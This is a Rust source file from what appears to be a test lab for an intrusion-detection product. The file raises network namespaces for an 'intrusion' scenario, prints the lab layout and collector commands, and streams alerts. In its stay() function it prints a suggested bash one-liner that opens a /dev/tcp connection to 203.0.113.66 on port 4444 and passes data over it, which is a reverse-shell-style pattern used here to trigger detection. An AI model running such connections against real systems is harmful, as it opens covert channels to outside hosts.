//! The lab left standing: what is where, what to try, and alerts as they come, until Ctrl-C.

use std::process::ExitCode;
use std::time::Duration;

use anyhow::{Result, bail};
use picket_tests::lab::{Wire, topology, wait_until};
use picket_tests::product::{Rig, Watch, rig};
use picket_tests::scene::Scenario;
use picket_tests::scene::template::INSTANCE_ID;

use crate::interrupt::Interrupt;
use crate::show;

/// Longer than anybody stays.
const FOR_EVER: Duration = Duration::from_secs(u32::MAX as u64);

/// Brings everything up with the lists and hosts of all scenes, and stays.
pub(crate) fn run() -> Result<ExitCode> {
    let lacking = rig::lacking();
    if !lacking.is_empty() {
        bail!("this machine lacks {}", lacking.join(", "));
    }
    let interrupt = Interrupt::listen()?;
    let intrusion = Scenario::load("intrusion")?;
    let rig = Rig::raise(&intrusion, Wire::Ordinary)?;
    describe(&rig);
    println!("\nthe lists and hosts of every scene are in place:");
    for (name, address) in &intrusion.names {
        println!("  name  {name} → {address}");
    }
    for service in &intrusion.services {
        println!("  host  {} ({:?})", service.at, service.speaks);
    }
    stay(&rig, rig.watch(), &interrupt)?;
    Ok(ExitCode::SUCCESS)
}

/// Prints who stands where.
pub(crate) fn describe(rig: &Rig) {
    let lab = &rig.lab;
    println!(
        "  instance   {INSTANCE_ID}  {}  namespace {}",
        topology::INSTANCE,
        lab.instance.name()
    );
    println!(
        "  internet   {}, resolver {}  namespace {}",
        topology::INTERNET.join(" "),
        topology::RESOLVER,
        lab.internet.name()
    );
    println!(
        "  collector  https://{}  namespace {}",
        rig.collector.address(),
        lab.collector.name()
    );
    println!("  files      {}", lab.folder().display());
}

/// Prints what to try, then alerts as they come, until somebody interrupts.
pub(crate) fn stay(rig: &Rig, mut watch: Watch<'_>, interrupt: &Interrupt) -> Result<()> {
    println!("\nthe lab stands until Ctrl-C. From another terminal:");
    for words in ["findings list", "incidents list", "agents list"] {
        println!("  {}", shown(&rig.collector.command(words)));
    }
    println!("  {}", shown(&rig.agent.command("status")));
    let inside = format!("nsenter --net={}", rig.lab.instance.path().display());
    println!("  {inside} bash    # a shell on the instance, for example:");
    println!("  {inside} bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444; echo hello >&3; cat <&3'");
    show::head();
    wait_until("the end", FOR_EVER, || {
        for alert in watch.look()? {
            show::alert(&alert, None);
        }
        Ok(interrupt.came().then_some(()))
    })?;
    println!("taking the lab down");
    Ok(())
}

fn shown(command: &std::process::Command) -> String {
    let mut words = vec![command.get_program().to_string_lossy().into_owned()];
    words.extend(
        command
            .get_args()
            .map(|word| word.to_string_lossy().into_owned()),
    );
    words.join(" ")
}
